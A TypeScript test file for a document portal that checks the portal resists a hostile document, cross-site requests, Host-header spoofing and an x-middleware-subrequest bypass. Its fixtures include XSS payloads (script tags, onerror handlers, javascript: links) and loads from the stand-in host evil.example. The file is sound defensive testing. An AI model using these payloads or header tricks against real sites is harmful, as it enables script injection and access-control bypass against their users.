import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { openBrowser } from '../support/open-browser.ts';
import { asVisitor, openPortal, type PortalVisit } from '../support/open-portal.ts';
import { sendExactly } from '../support/send-exactly.ts';
import { postJson, sendRaw } from '../support/send-raw.ts';
import { startFootnote, type RunningFootnote } from '../support/start-footnote.ts';
import { setUp, type Visitor } from '../support/visitor.ts';
import { adminKey } from './support/cast.ts';

/** What a document, another page or another name of this address can do to somebody’s browser. */
const marker = 'vermilion otter';
const foreign = 'https://evil.example';
let footnote: RunningFootnote;
let browser: Browser;
let admin: Visitor;
let documentId: string;

/** Forms by which a text makes a browser ask another host, or run something. */
const hostileMarkdown = `# Bands <img src="${foreign}/title.png" onerror="alert(1)">

The salary band of the ${marker} is 50,000 EUR. ![inline](${foreign}/inline.png?q=50000) [link](javascript:alert(1))

![reference][ref] <${foreign}/auto> <img src=x onerror=alert(1)> <svg onload=alert(1)><math><mi xlink:href="data:x,y">

<iframe srcdoc="<script>alert(1)</script>"></iframe><script src="${foreign}/script.js"></script><base href="${foreign}">

<link rel="stylesheet" href="//evil.example/style.css"><style>@import url(${foreign}/import.css);</style>

[data](data:text/html,<script>alert(1)</script>) [punycode](https://xn--evl-hoa.example/) ![](//evil.example/p.png)

[ref]: ${foreign}/reference.png
`;

beforeAll(async () => {
  [footnote, browser] = await Promise.all([
    startFootnote({ environment: { FOOTNOTE_AUTH: 'password', FOOTNOTE_ADMIN_KEY: adminKey } }),
    openBrowser(),
  ]);
  admin = await setUp(footnote);
  await admin.client.putSource('hr', { title: '<img src=x onerror=alert(1)>', defaultAccess: { everyone: true } });
  const document = {
    source: 'hr',
    externalId: '"><script>alert(1)</script>.md',
    title: `Bands <script>alert(1)</script> ![t](${foreign}/t.png)`,
    mediaType: 'text/markdown',
    text: hostileMarkdown,
  };
  documentId = (await admin.client.receiveDocument(document, { wait: true })).documentId;
}, 180_000);

afterAll(async () => {
  await browser.close();
  await footnote.stop();
});

describe('cases 26 and 27: a hostile document', () => {
  it('asks no other host and runs nothing, wherever it is shown', async () => {
    const portal = await openPortal(browser, footnote.url, asVisitor(admin));
    const dialogs: string[] = [];
    portal.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    for (const path of [
      `/search?q=${encodeURIComponent(marker)}`,
      `/ask?q=${encodeURIComponent(`What is the salary band of the ${marker}?`)}`,
      `/documents/${documentId}`,
      `/admin/documents?document=${documentId}`,
      '/',
    ]) {
      await portal.visit(path);
      expect({ path, found: await activeParts(portal) }).toEqual({ path, found: [] });
    }
    expect(portal.complaints).toEqual([]);
    expect(dialogs).toEqual([]);
    await portal.close();
  });
});

describe('case 32: a page', () => {
  it('has a policy with a nonce of its own, and lets nothing from elsewhere in', async () => {
    const policies = [];
    for (let visit = 0; visit < 2; visit += 1) {
      const { headers, text } = await sendRaw(`${footnote.url}/sign-in`);
      const policy = headers.get('content-security-policy') ?? '';
      policies.push(policy);
      const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? 'none';
      const scripts = [...text.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
      expect(scripts.length).toBeGreaterThan(0);
      expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('x-frame-options')).toBe('DENY');
    }
    expect(policies[0]).not.toBe(policies[1]);
    for (const rule of [
      "default-src 'none'",
      "img-src 'self'",
      "connect-src 'self'",
      "base-uri 'none'",
      "form-action 'self'",
    ]) {
      expect(policies[0]?.split('; ')).toContain(rule);
    }
    expect(policies[0]).not.toMatch(/unsafe-inline|unsafe-eval|https?:\/\/\*|\*;/);
  });

  it('and data say what they are, and run nothing', async () => {
    const { headers } = await sendRaw(`${footnote.url}/api/v1/auth`);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'");
    expect(headers.get('cache-control')).toBe('private, no-store');
  });
});

describe('case 33: another site', () => {
  const origins = [foreign, 'null', 'http://localhost.evil.example', 'http://127.0.0.1.evil.example', 'file://'];

  it.each(origins)('%s gets no permission to read', async (origin) => {
    for (const method of ['GET', 'OPTIONS']) {
      const headers = { origin, 'access-control-request-method': 'POST', cookie: admin.cookie };
      const reply = await sendRaw(`${footnote.url}/api/v1/account`, { method, headers });
      expect(reply.headers.get('access-control-allow-origin')).toBeNull();
      expect(reply.headers.get('access-control-allow-credentials')).toBeNull();
    }
  });

  it.each([...origins.map((origin): Record<string, string> => ({ origin })), {}, { 'sec-fetch-site': 'cross-site' }])(
    'changes nothing with somebody’s cookie: %j',
    async (headers) => {
      const request = { name: 'stolen', scopes: ['search'] };
      const cookie = { cookie: admin.cookie };
      const reply = await postJson(`${footnote.url}/api/v1/account/api-keys`, request, { ...cookie, ...headers });
      expect(reply.status).toBe(403);
      expect((await admin.client.listOwnApiKeys()).items).toEqual([]);
    },
  );

  it.each([
    'evil.example',
    'localhost.evil.example',
    '127.0.0.1.evil.example:80',
    'evil.example#127.0.0.1',
    '169.254.169.254',
  ])('under the name %s gets nothing, though it leads here', async (host) => {
    for (const path of ['/api/v1/account', '/', '/health/ready', '/metrics']) {
      const reply = await sendExactly(footnote.url, path, { headers: { host, cookie: admin.cookie } });
      expect(reply.status).toBe(403);
      expect(reply.text).not.toContain('ada@example.org');
    }
  });
});

describe('case 34: a header of the framework', () => {
  it.each([
    'proxy',
    'middleware',
    'src/middleware',
    'middleware:middleware:middleware:middleware:middleware',
    'src/proxy:src/proxy:src/proxy:src/proxy:src/proxy',
  ])('x-middleware-subrequest: %s opens no page', async (value) => {
    for (const path of ['/', `/documents/${documentId}`, '/admin/users', '/account']) {
      const headers = {
        'x-middleware-subrequest': value,
        'x-middleware-next': '1',
        'x-forwarded-host': 'evil.example',
      };
      const { text } = await sendRaw(`${footnote.url}${path}`, { headers });
      for (const secret of ['50,000', marker, 'ada@example.org', 'evil.example']) expect(text).not.toContain(secret);
    }
  });
});

/** Elements and links in the page that would do something. Run in the page, so it is a text to this program. */
async function activeParts({ page }: PortalVisit): Promise<string[]> {
  return page.evaluate<string[]>(`[...document.querySelectorAll('*')].flatMap((element) => {
    const isOurs = (address) => address.startsWith(location.origin) || address.startsWith('blob:' + location.origin);
    const address = element.href?.baseVal ?? element.href ?? element.src ?? '';
    const runs = /^(javascript|data|vbscript):/i.test(address) || (element.tagName === 'IMG' && address !== '' && !isOurs(address));
    const handles = [...element.attributes].some(({ name }) => name.startsWith('on') || name === 'srcdoc');
    // A plugin of the operator's stands in a frame without an origin.
    const isPlugin = isOurs(address) && element.getAttribute('sandbox') === 'allow-scripts';
    const loads = ['IFRAME', 'OBJECT', 'EMBED', 'BASE'].includes(element.tagName) && !isPlugin;
    return runs || handles || loads ? [element.outerHTML.slice(0, 200)] : [];
  })`);
}
